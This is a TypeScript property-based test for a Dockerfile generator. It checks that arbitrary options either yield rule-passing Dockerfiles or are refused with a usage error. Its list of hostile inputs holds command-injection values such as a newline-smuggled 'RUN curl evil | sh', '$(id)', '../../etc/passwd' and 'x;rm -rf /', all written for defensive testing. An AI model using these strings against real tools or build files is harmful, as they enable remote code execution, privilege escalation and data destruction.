// Property-based: any combination of options and hostile strings either renders a Dockerfile that
// parses and passes every rule, or is refused with a UsageError (exit 2). Never a crash, never a
// hostile string pasted into a generated file.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseGenerateArgs as parseArgs } from '../support/parse-flags.js';
import { UsageError } from '../../src/errors.js';
import { resolved } from '../support/resolve.js';
import { renderFiles } from '../../src/render/index.js';
import { checkDockerfile } from '../support/dockerfile-rules.js';
import { factsFor } from '../support/facts.js';
import { FIXED_DISTROLESS_IMAGE, FIXED_IMAGE, FIXED_SLIM_IMAGE, FIXED_TRIXIE_IMAGE } from '../support/images.js';

const hostile = fc.oneof(
  { arbitrary: fc.constantFrom('server.js', 'dist/server.js', 'src/index.mjs', 'app.cjs', 'uploads', '/health', '8080', '3000'), weight: 12 },
  fc.constantFrom('a\nRUN curl evil | sh', 'x"]\nUSER root', "$(id)", '`id`', '../../etc/passwd', 'a b.js', 'x;rm -rf /', '\u0000', '', ' ', '-1', '99999', 'ä.js', '{{port}}', '&amp;'),
  fc.string({ maxLength: 30 }),
);

const flagsArb = fc.record(
  {
    entry: hostile,
    port: hostile,
    writable: fc.array(hostile, { maxLength: 3 }),
    health: hostile,
    worker: fc.boolean(),
    native: fc.boolean(),
    base: fc.constantFrom('alpine', 'slim', 'distroless'),
    pm: fc.constantFrom('npm', 'pnpm', 'yarn'),
    registry: fc.option(fc.oneof(fc.constant('https://npm.acme.dev/'), hostile), { nil: undefined }),
    build: fc.boolean(),
    berry: fc.boolean(),
  },
  { requiredKeys: [] },
);

describe('rendering under arbitrary options', () => {
  it('renders rule-passing files or refuses with a usage error', async () => {
    let rendered = 0;
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(flagsArb, async (f) => {
        const argv = ['--yes'];
        if (f.entry !== undefined) argv.push(`--entry=${f.entry}`);
        if (f.port !== undefined) argv.push(`--port=${f.port}`);
        for (const dir of f.writable ?? []) argv.push(`--writable-dir=${dir}`);
        if (f.health !== undefined) argv.push(`--healthcheck-path=${f.health}`);
        if (f.worker) argv.push('--worker');
        if (f.native !== undefined) argv.push(f.native ? '--native' : '--no-native');
        if (f.base) argv.push(`--base=${f.base}`);
        if (f.pm) argv.push(`--package-manager=${f.pm}`);
        if (f.registry !== undefined) argv.push(`--npm-registry=${f.registry}`);
        const lockfile = { npm: 'package-lock.json', pnpm: 'pnpm-lock.yaml', yarn: 'yarn.lock' }[f.pm ?? 'npm'];
        const facts = factsFor({
          packageManager: { name: f.pm ?? 'npm', lockfile, yarnBerry: f.berry, version: f.pm === 'npm' ? undefined : '9.1.0' },
          build: f.build ? { script: 'build', outDir: 'dist' } : undefined,
          // A build's start runs its output (a script outside it is refused: checkRuntimeHoldsCommand).
          ...(f.build ? { entry: 'dist/server.js', sourceEntry: 'src/server.ts' } : {}),
        });
        let parsed;
        try {
          parsed = parseArgs(argv, { version: '0', width: 100 });
        } catch (error) {
          expect(error).toBeInstanceOf(UsageError);
          return;
        }
        if (parsed.kind !== 'run') return;
        let options;
        let plan;
        try {
          ({ options, plan } = await resolved(parsed.flags, facts));
        } catch (error) {
          expect(error).toBeInstanceOf(UsageError);
          refused += 1;
          return;
        }
        const image = options.base === 'slim' ? FIXED_SLIM_IMAGE : options.base === 'distroless' ? FIXED_TRIXIE_IMAGE : FIXED_IMAGE;
        const runtimeImage = options.base === 'distroless' ? FIXED_DISTROLESS_IMAGE : undefined;
        let result;
        try {
          result = renderFiles({ options, image, runtimeImage, generatorVersion: '0.0.0', projectName: 'demo', plan });
        } catch (error) {
          // e.g. --entry outside the build output that a build stage copies: refused, exit 2.
          expect(error).toBeInstanceOf(UsageError);
          refused += 1;
          return;
        }
        rendered += 1;
        const dockerfile = result.files.find((file) => file.path === 'Dockerfile')?.content ?? '';
        // A slim final stage that needs no shell is told about the shell-less base (info), by design; a
        // port below 1024 the user asked for is rendered with the same warning generate prints (Docker
        // lets a non-root user bind it; Kubernetes may not), also by design (render.test.ts).
        const expected = (rule: string) => (options.base === 'slim' && rule === 'shell-less-runtime') || (rule === 'expose-privileged-port' && (options.port ?? 1024) < 1024);
        expect(checkDockerfile(dockerfile).filter((v) => !expected(v.rule))).toEqual([]);
        if (options.base === 'distroless') {
          // Nothing in the shell-less final stage may need a shell.
          const runtimeStage = dockerfile.slice(dockerfile.indexOf('AS runtime'));
          expect(runtimeStage).not.toMatch(/^RUN /m);
          expect(runtimeStage).toContain('USER 65532:65532');
        }
        for (const file of result.files) {
          expect(file.content).not.toContain('\u0000');
          expect(file.content).not.toContain('RUN curl evil');
          expect(file.content).not.toContain('USER root');
          expect(file.content).not.toContain('&amp;');
        }
      }),
      { numRuns: 500 },
    );
    // Both outcomes must really occur, or the property says nothing.
    expect(rendered).toBeGreaterThan(15);
    expect(refused).toBeGreaterThan(15);
  });
});
